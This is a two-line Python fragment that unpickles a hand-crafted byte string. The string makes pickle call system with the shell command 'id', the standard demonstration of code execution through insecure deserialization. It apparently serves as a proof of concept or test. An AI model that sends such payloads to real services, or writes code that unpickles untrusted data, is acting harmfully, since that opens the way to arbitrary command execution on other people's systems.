import pickle
return pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
